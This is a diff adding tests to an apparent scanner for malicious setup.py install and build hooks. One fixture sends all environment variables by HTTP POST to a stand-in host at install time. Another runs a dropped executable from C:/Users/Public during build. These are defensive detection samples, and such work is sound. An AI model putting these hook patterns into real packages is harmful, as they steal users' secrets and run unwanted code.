@@ -153,6 +153,59 @@ def test_setup_download_beside_the_working_folder_is_not_a_phone_home() -> None:
     assert [f.severity for f in findings if f.rule == "PV-INS-001"] == [Severity.HIGH]
 
 
+def test_a_method_reached_through_an_instance_the_command_made_runs_at_install() -> None:
+    findings = _setup(
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "import requests, os\n"
+        "class Reporter:\n"
+        "    def send(self):\n"
+        "        requests.post('http://x.invalid', data=dict(os.environ))\n"
+        "class PostInstall(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        reporter = Reporter()\n"
+        "        reporter.send()\n"
+        "setup(name='demo', cmdclass={'install': PostInstall})\n"
+    )
+    assert "PV-INS-002" in ids(findings)
+    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank
+
+
+def test_a_build_helper_instance_asking_pg_config_is_a_build_step() -> None:
+    # psycopg2's shape: the path of pg_config (pg_config.exe from the registry on Windows) is
+    # found by a helper object whose method runs it; asking a library for its flags is routine.
+    findings = _setup(
+        "import os, subprocess\nfrom setuptools import setup\n"
+        "from setuptools.command.build_ext import build_ext\n"
+        "class Config:\n"
+        "    def __init__(self):\n"
+        "        self.exe = self.find() or os.path.join(os.environ['PGDIR'], 'bin', 'pg_config.exe')\n"
+        "    def find(self):\n"
+        "        return 'pg_config'\n"
+        "    def query(self, what):\n"
+        "        return subprocess.run([self.exe, '--' + what], stdout=subprocess.PIPE).stdout\n"
+        "class BuildExt(build_ext):\n"
+        "    def finalize_options(self):\n"
+        "        helper = Config()\n"
+        "        self.library_dirs.append(helper.query('libdir'))\n"
+        "setup(name='demo', cmdclass={'build_ext': BuildExt})\n"
+    )
+    assert findings == []
+    dropped = _setup(
+        "import subprocess\nfrom setuptools import setup\n"
+        "from setuptools.command.build_ext import build_ext\n"
+        "class Runner:\n"
+        "    def go(self):\n"
+        "        subprocess.Popen(['C:/Users/Public/update.exe'])\n"
+        "class BuildExt(build_ext):\n"
+        "    def run(self):\n"
+        "        runner = Runner()\n"
+        "        runner.go()\n"
+        "setup(name='demo', cmdclass={'build_ext': BuildExt})\n"
+    )
+    assert "PV-INS-002" in ids(dropped)
+
+
 def test_library_flag_tools_and_pip_on_the_tree_itself_are_build_steps() -> None:
     findings = _setup(
         "import os\nfrom setuptools import setup\n"
